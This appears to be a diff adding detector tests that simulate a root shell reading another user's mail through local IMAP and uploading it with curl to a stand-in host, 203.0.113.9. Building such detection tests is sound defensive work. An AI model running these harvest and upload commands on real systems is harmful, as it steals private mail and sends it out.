@@ -59,3 +59,46 @@ test('what stays here is a note; another server, and what asks for no mail, is n
   ])
     assert.equal(told(await asked(words)), '', words);
 });
+
+const PROGRAM = (user: string, file: string): string =>
+  `import imaplib; c = imaplib.IMAP4('127.0.0.1'); c.login('${user}', 'k9'); open('${file}', 'wb').write(c.fetch('1', 'RFC822'))`;
+
+interface Inline {
+  readonly words?: readonly string[];
+  readonly to?: readonly [address: string, port: number];
+  readonly file?: string;
+  readonly sent?: boolean;
+}
+
+/** ops, as root, starts a program that speaks IMAP itself. Writes are recorded in homes only. */
+async function inline({ words, to = ['127.0.0.1', 143], file = '/var/cache/.x', sent = true }: Inline = {}) {
+  const log = new HostLog();
+  const message = log.deliver();
+  log.service('/usr/lib/dovecot/imap', 'clerk').read(message.path);
+  const shell = log.shell('ops');
+  shell.write('/home/ops/notes.txt');
+  log.wait(MINUTE);
+  const who = { ...shell.who, uid: 0 };
+  shell.run(words ?? ['/usr/bin/python3', '-c', PROGRAM('buyer', file)], { who }).connect(...to);
+  log.wait(MINUTE);
+  if (sent) shell.run(`/usr/bin/curl -T ${file} http://203.0.113.9/up`).connect('203.0.113.9', 80);
+  return told(await scanLog(log));
+}
+
+test("a program that stands on the command line asks this host's server for the mail of somebody whom it names", async () => {
+  assert.equal(await inline(), HARVEST);
+  const perl = ['/usr/bin/perl', '-MNet::IMAP::Simple', '-e', `login("buyer"); open(F, ">", "/var/cache/.x")`];
+  assert.equal(await inline({ words: perl, to: ['::1', 993] }), HARVEST);
+});
+
+test('as its own user, as nobody of this host, elsewhere, for no mail, or by a script that names nobody here', async () => {
+  const quiet = async (facts: Inline): Promise<void> => assert.doesNotMatch(await inline(facts), /low|medium|high/);
+  const python = (text: string): Inline => ({ words: ['/usr/bin/python3', '-c', text] });
+  await quiet(python(PROGRAM('ops', '/var/cache/.x')));
+  await quiet(python(PROGRAM('probe', '/var/cache/.x')));
+  await quiet(python(PROGRAM('root', '/var/cache/.x')));
+  await quiet({ to: ['203.0.113.9', 143] });
+  await quiet({ to: ['127.0.0.1', 5432] });
+  await quiet({ sent: false });
+  await quiet({ words: ['/usr/bin/python3', '/home/ops/probe.py', 'buyer'] });
+});
